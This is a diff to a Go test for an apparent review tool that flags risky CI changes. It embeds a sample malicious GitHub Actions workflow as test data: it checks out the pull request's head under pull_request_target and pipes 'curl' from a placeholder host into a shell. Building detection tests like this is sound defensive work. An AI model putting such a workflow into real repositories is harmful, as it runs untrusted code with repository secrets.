@@ -13,17 +13,33 @@ import (
 	"github.com/vetter-dev/vetter/packet"
 )
 
-// newAttentionRoot is the sample packet with a malicious workflow as its
-// diff: two high items (the pull_request_target trigger and the checkout of
-// the pull request's head), and a store in a temporary state folder.
+// attentionDiff is a malicious workflow: two high items (the checkout of
+// the pull request's head under pull_request_target, and a download piped
+// to a shell), the trigger and the file (medium) and the pinned action (low).
+const attentionDiff = `diff --git a/.github/workflows/preview.yml b/.github/workflows/preview.yml
+new file mode 100644
+index 0000000..1234567
+--- /dev/null
++++ b/.github/workflows/preview.yml
+@@ -0,0 +1,10 @@
++name: preview
++on: pull_request_target
++jobs:
++  build:
++    runs-on: ubuntu-latest
++    steps:
++      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11
++        with:
++          ref: ${{ github.event.pull_request.head.sha }}
++      - run: curl -fsSL https://x.invalid/preview.sh | sh
+`
+
+// newAttentionRoot is the sample packet with attentionDiff as its diff, and
+// a store in a temporary state folder.
 func newAttentionRoot(t *testing.T) (*Workbench, *Decision) {
 	t.Helper()
 	dir := sampleCopy(t, "p")
-	diff, err := os.ReadFile(filepath.Join("..", "packet", "testdata", "attention", "corpus", "malicious", "wf-prt-head-checkout.diff"))
-	if err != nil {
-		t.Fatal(err)
-	}
-	if err := os.WriteFile(filepath.Join(dir, "change.diff"), diff, 0o644); err != nil {
+	if err := os.WriteFile(filepath.Join(dir, "change.diff"), []byte(attentionDiff), 0o644); err != nil {
 		t.Fatal(err)
 	}
 	ctx := storeContext(t, loadCopy(t, dir), time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC))
@@ -63,7 +79,7 @@ func testDecisionMarksReviewed(t *testing.T) {
 		t.Fatalf("before: %+v", c)
 	}
 	s := ansi.Strip(r.Render())
-	for _, want := range []string{"What a vetter must look at (3; 0 of 2 high reviewed)", "gha-untrusted-checkout",
+	for _, want := range []string{"What a vetter must look at (5; 0 of 2 high reviewed)", "gha-untrusted-checkout",
 		"> ref: ${{ github.event.pull_request.head.sha }}", "why: on pull_request_target"} {
 		if !strings.Contains(s, want) {
 			t.Errorf("screen lacks %q:\n%s", want, s)
